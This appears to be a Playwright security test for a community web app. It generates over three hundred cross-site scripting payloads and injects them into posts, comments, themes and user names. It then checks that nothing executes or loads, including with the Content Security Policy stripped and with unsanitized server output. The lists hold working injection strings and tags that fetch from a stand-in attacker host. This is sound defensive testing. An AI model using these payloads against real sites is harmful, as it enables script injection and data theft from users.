import type { Page } from '@playwright/test';
import { SignUp } from '#contract/account/auth';
import { COMMENT_MAX, LINKS_MAX, POST_MAX, THEME_DESCRIPTION_MAX } from '#contract/community/limits';
import { type CommunityMember, test, withThemeLock } from './communityFixtures';
import { expect } from './fixtures';

// Needs PostgreSQL: the test creates a room and users with SQL.
test.use({ database: 'postgresql' });

const XSS_CODE = '__ran=1';
const EVIL_URL = '//evil.example/p';

const ELEMENTS = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'details open',
  'input autofocus',
  'textarea autofocus',
  'marquee',
  'iframe',
  'object data=x',
  'embed src=x',
  'button',
  'a href=#',
  'div style=animation-name:x',
  'math',
  'select autofocus',
  'form',
];
const EVENTS = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onstart',
  'onmouseover',
  'onclick',
  'onanimationstart',
  'onpointerenter',
  'onbegin',
];
const URLS = [
  `javascript:${XSS_CODE}`,
  `JaVaScRiPt:${XSS_CODE}`,
  `java\tscript:${XSS_CODE}`,
  `&#106;avascript:${XSS_CODE}`,
  `java&Tab;script&colon;${XSS_CODE}`,
  `\u0001javascript:${XSS_CODE}`,
  `vbscript:${XSS_CODE}`,
  `data:text/html,<script>${XSS_CODE}</script>`,
  `https://a@evil.example/"onclick=${XSS_CODE}`,
];
const URL_TEMPLATES = [
  '<a href="@">x</a>',
  '<iframe src="@"></iframe>',
  '<form action="@"><button>x</button></form>',
  '<object data="@"></object>',
  '<svg><a xlink:href="@">x</a></svg>',
  '<base href="@">',
  '[x](@)',
  '@',
];
const SCRIPTS = [
  `<script>${XSS_CODE}</script>`,
  `<ScRiPt>${XSS_CODE}</sCrIpT>`,
  `<script src=${EVIL_URL}></script>`,
  `</script><script>${XSS_CODE}</script>`,
  `</title><script>${XSS_CODE}</script>`,
  `</textarea><script>${XSS_CODE}</script>`,
  `<scr<script>ipt>${XSS_CODE}</script>`,
  `<script/x>${XSS_CODE}</script>`,
  `<script\n>${XSS_CODE}</script\n>`,
  `<svg><script>${XSS_CODE}</script></svg>`,
  `<math><script>${XSS_CODE}</script></math>`,
  `<template><script>${XSS_CODE}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${XSS_CODE}>">`,
  `<![CDATA[<script>${XSS_CODE}</script>]]>`,
  `<!--><script>${XSS_CODE}</script>-->`,
  `<!--[if IE]><script>${XSS_CODE}</script><![endif]-->`,
  `"><script>${XSS_CODE}</script>`,
  `'><script>${XSS_CODE}</script>`,
  `"autofocus onfocus="${XSS_CODE}`,
  `'-${XSS_CODE}-'`,
  `"-${XSS_CODE}-"`,
  `';${XSS_CODE}//`,
  `\\";${XSS_CODE}//`,
  `\${${XSS_CODE}}`,
  `{{constructor.constructor('${XSS_CODE}')()}}`,
  `#{${XSS_CODE}}`,
  `<%=${XSS_CODE}%>`,
  `&lt;script&gt;${XSS_CODE}&lt;/script&gt;`,
  `&#60;script&#62;${XSS_CODE}&#60;/script&#62;`,
  `%3Cscript%3E${XSS_CODE}%3C/script%3E`,
  `\\u003cscript\\u003e${XSS_CODE}`,
  `＜script＞${XSS_CODE}＜/script＞`,
  `\u202e<script>${XSS_CODE}</script>\u202c`,
];
const MUTATIONS = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${XSS_CODE}>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${XSS_CODE}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${XSS_CODE}>`,
  `<p><svg><desc><b><p><img src=x onerror=${XSS_CODE}>`,
  `<table><td><a><table><img src=x onerror=${XSS_CODE}>`,
  `<select><template><img src=x onerror=${XSS_CODE}>`,
  `<svg><foreignObject><img src=x onerror=${XSS_CODE}>`,
  `<xmp><p title="</xmp><img src=x onerror=${XSS_CODE}>">`,
  `<b <img src=x onerror=${XSS_CODE}>`,
  `<img/src=x/onerror=${XSS_CODE}>`,
  `<img src=x onerror\n=${XSS_CODE}`,
  `<strong onclick=${XSS_CODE}><em style="x:expression(${XSS_CODE})">x`,
  `<p id=toasts><p id=person><p name=__proto__>`,
];
const EXTERNAL_REQUESTS = [
  `<img src=${EVIL_URL}>`,
  `<img srcset="${EVIL_URL} 2x">`,
  `<link rel=stylesheet href=${EVIL_URL}>`,
  `<link rel=prefetch href=${EVIL_URL}>`,
  `<link rel=manifest href=${EVIL_URL}>`,
  `<style>@import '${EVIL_URL}'</style>`,
  `<style>*{background:url(${EVIL_URL})}</style>`,
  `<p style="background:url(${EVIL_URL})">x</p>`,
  `<meta http-equiv=refresh content="0;url=${EVIL_URL}">`,
  `<video poster=${EVIL_URL}></video>`,
  `<audio src=${EVIL_URL}></audio>`,
  `<object data=${EVIL_URL}></object>`,
  `<embed src=${EVIL_URL}>`,
  `<iframe src=${EVIL_URL}></iframe>`,
  `<input type=image src=${EVIL_URL}>`,
  `<svg><image href=${EVIL_URL} /></svg>`,
  `<table background=${EVIL_URL}>`,
  `<body background=${EVIL_URL}>`,
  `<base href=${EVIL_URL}>`,
  `<form action=${EVIL_URL}><button autofocus>x</button></form>`,
];

const PAYLOADS = [
  ...ELEMENTS.flatMap((element) => EVENTS.map((event) => `<${element} ${event}=${XSS_CODE}>`)),
  ...URL_TEMPLATES.flatMap((place) => URLS.map((address) => place.replace('@', address))),
  ...SCRIPTS,
  ...MUTATIONS,
  ...EXTERNAL_REQUESTS,
];

/** The payloads as names, truncated to the maximum length of a name. */
const NAMES = PAYLOADS.map((payload) => SignUp.shape.firstName.parse(payload.slice(0, 80)));

/**
 * How many names go through the sign-up API, which is slow. The rest are normalized in the same way and inserted with
 * SQL.
 */
const SIGN_UP_COUNT = 6;

test('three hundred XSS payloads run no code and load nothing', async ({ createUser, newRoom, sql, app }) => {
  test.slow();
  expect(PAYLOADS.length).toBeGreaterThanOrEqual(300);
  const scriptPayload = SCRIPTS[3] ?? '';
  const naomi = await createUser(scriptPayload, { lastName: `"${scriptPayload}`, isModerator: true });
  const room = await newRoom('walking_together', 'Threshing floor');
  const { posts, comments } = await insertPayloads(naomi, room.id);
  const names = await insertNames(naomi, posts[0]?.id ?? 0, sql);
  const themes: string[] = [];
  const html: string[] = [];
  const page = await naomi.context.newPage();
  const sideEffects = recordSideEffects(page, app.url);

  await withThemeLock(app, async () => {
    await page.goto(room.address);
    await expect(page.getByRole('article')).toHaveCount(posts.length);
    for (const [index, chunk] of chunks(PAYLOADS, THEME_DESCRIPTION_MAX, 1000).entries()) {
      const { title, description } = await naomi.createTheme(
        `${scriptPayload} ${index}`,
        `<p>Kept ${index}</p>${chunk}`,
      );
      await expect(page.getByRole('heading', { name: title, exact: true })).toBeVisible();
      await expect(page.getByText(`Kept ${index}`, { exact: true })).toBeVisible();
      await expectHarmless(page);
      themes.push(title);
      html.push(description);
    }
    await page.getByRole('button', { name: 'Admin' }).click();
    for (const title of themes) {
      const item = page.getByRole('listitem').filter({ hasText: title });
      await item.getByRole('button', { name: /^Edit/ }).click();
      await expect(page.getByLabel('Theme Title')).toHaveValue(title);
      await expect(page.getByRole('textbox', { name: 'Description' })).toContainText('Kept');
    }
    await expectHarmless(page);
  });
  expect(html.join('').replaceAll(/<\/?(p|br|strong|em|b|i|ul|ol|li|a)( [^<>]*)?>/g, '')).not.toContain('<');
  await expectAllVisible(page, { names, comments });
  await expectHarmless(page);
  expect(sideEffects).toEqual([]);

  // Repeats the check without the Content Security Policy.
  await page.route(/\/community(\?|$)/, async (route) => {
    const answer = await route.fetch();
    const { 'content-security-policy': rule, ...headers } = answer.headers();
    expect(rule).toContain("script-src 'self'");
    await route.fulfill({ response: answer, headers });
  });
  const answer = await page.goto(room.address);
  expect(answer?.headers()['content-security-policy']).toBeUndefined();
  await expectAllVisible(page, { names, comments });
  await expectHarmless(page);
  // Repeats the check with a server that does not sanitize HTML.
  const raw = {
    ...(await naomi.request<object>('GET', '/api/community/current-theme')),
    title: scriptPayload,
  };
  const description = `<p>Raw</p>${PAYLOADS.join('\n')}`;
  await page.route('**/current-theme', (route) => route.fulfill({ json: { ...raw, description } }));
  await page.goto('/community');
  await expect(page.getByRole('region', { name: "This Week's Theme" })).toContainText('Raw');
  await expectHarmless(page);
  await page.getByRole('link', { name: 'Threshing floor' }).click();
  await expect(page.getByText('Raw', { exact: true })).toBeVisible();
  await expectHarmless(page);
  expect(sideEffects).toEqual([]);
});

/** Joins payloads into texts that respect the limits of length and links. */
function chunks(payloads: string[], maxLength: number, links = LINKS_MAX): string[] {
  const all: string[][] = [[]];
  for (const payload of payloads) {
    const text = [...(all.at(-1) ?? []), payload].join('\n');
    if (text.length > maxLength || (text.match(/https?:|www\./gi)?.length ?? 0) > links) all.push([]);
    all.at(-1)?.push(payload);
  }
  return all.map((chunk) => chunk.join('\n'));
}

/** Creates posts with every payload, and comments with every payload under the newest post. */
async function insertPayloads(naomi: CommunityMember, roomId: number) {
  const posts: { id: number; content: string }[] = [];
  for (const chunk of chunks(PAYLOADS, POST_MAX)) posts.unshift(await naomi.createPost(roomId, chunk));
  const comments: string[] = [];
  for (const chunk of chunks(PAYLOADS, COMMENT_MAX)) {
    comments.push((await naomi.createComment(posts[0]?.id ?? 0, chunk)).content);
  }
  const allText = [...posts.map(({ content }) => content), ...comments].join('\n');
  for (const payload of PAYLOADS) expect(allText, 'stored unchanged').toContain(payload.trim());
  return { posts, comments };
}

/** Creates users whose first and last names are payloads. Each user comments 'Amen.' */
async function insertNames(
  naomi: CommunityMember,
  postId: number,
  sql: (text: string, values?: unknown[]) => Promise<unknown>,
) {
  const { request } = naomi.context;
  const pairs = Array.from({ length: NAMES.length / 2 }, (_, index) => NAMES.slice(index * 2, index * 2 + 2));
  const emails: string[] = [];
  for (const [firstName, lastName] of pairs.slice(0, SIGN_UP_COUNT)) {
    const email = `${crypto.randomUUID()}@example.org`;
    const data = { email, password: 'Gleaning-12', firstName, lastName };
    const answer = await request.post('/api/auth/register', { data, headers: { Cookie: '' } });
    expect(answer.status(), await answer.text()).toBe(201);
    emails.push(email);
  }
  await naomi.signIn();
  const remaining = pairs.slice(SIGN_UP_COUNT);
  const added = `insert into users (email, password, first_name, last_name)
    select gen_random_uuid() || '@example.org', '', first, last from unnest($1::text[], $2::text[]) as name (first, last)
    returning email`;
  const rows = (await sql(added, [remaining.map(([first]) => first), remaining.map(([, last]) => last)])) as {
    email: string;
  }[];
  emails.push(...rows.map(({ email }) => email));
  const amen = `insert into comments (post_id, user_id, content) select $1, id, 'Amen.' from users where email = any($2)`;
  await sql(amen, [postId, emails]);
  return pairs.map(([first, last]) => `${first} ${last}`);
}

/** Records dialogs, requests to other origins, CSP violations, errors and popups. */
function recordSideEffects(page: Page, app: string): string[] {
  const sideEffects: string[] = [];
  page.on('dialog', (dialog) => {
    sideEffects.push(`asked: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    const url = request.url();
    if (!url.startsWith(app) && !url.startsWith('data:')) sideEffects.push(`fetched ${url}`);
  });
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) sideEffects.push(`tried: ${message.text()}`);
  });
  page.on('pageerror', (error) => sideEffects.push(`failed: ${error.message}`));
  page.on('popup', (popup) => sideEffects.push(`opened ${popup.url()}`));
  return sideEffects;
}

/** Expects that every payload is visible as text, unchanged. */
async function expectAllVisible(page: Page, { names, comments }: { names: string[]; comments: string[] }) {
  const articles = page.getByRole('article');
  await expandAll(page);
  await page.getByRole('button', { name: /^View all \d+ comments$/ }).click();
  await page.getByRole('button', { name: 'Show older comments' }).click();
  await expect(page.getByRole('list', { name: 'Comments' }).getByRole('listitem')).toHaveCount(
    names.length + comments.length,
  );
  await expandAll(page);
  const allText = (await articles.allTextContents()).join('\n');
  const missing = [...PAYLOADS.map((payload) => payload.trim()), ...names].filter(
    (text) => !allText.includes(text),
  );
  expect(missing).toEqual([]);
  const commentTexts = await articles.getByRole('listitem').allTextContents();
  for (const comment of comments) {
    expect(commentTexts.some((answer) => answer.includes(comment.trim()))).toBe(true);
  }
}

/** Expands all truncated texts. */
async function expandAll(page: Page) {
  const more = page.getByRole('article').getByRole('button', { name: 'Show more' });
  // A text that is measured late gets its button late.
  await expect(async () => {
    await more.evaluateAll((buttons: HTMLElement[]) => {
      for (const button of buttons) button.click();
    });
    await expect(more).toHaveCount(0, { timeout: 500 });
  }).toPass();
}

/** Expects that no payload ran, and that the page contains only text and http(s) or mailto links. */
async function expectHarmless(page: Page) {
  const found = await page.evaluate(() => {
    const main = document.querySelector('main') as HTMLElement;
    const foreign = main.querySelectorAll(
      'script, style, link, meta, base, iframe, object, embed, template, math, marquee, video, audio, details[open], [srcdoc], [background], [action]',
    );
    const handlers = [...document.querySelectorAll('*')].flatMap((element) =>
      [...element.attributes].filter(({ name }) => name.startsWith('on')).map(() => element.outerHTML),
    );
    const links = [...main.querySelectorAll('a')]
      .map((link) => link.protocol)
      .filter((protocol) => !/^(https?|mailto):$/.test(protocol));
    const ran = '__ran' in window ? ['ran'] : [];
    return [...ran, ...handlers, ...links, ...[...foreign].map((element) => element.outerHTML.slice(0, 200))];
  });
  expect(found).toEqual([]);
}
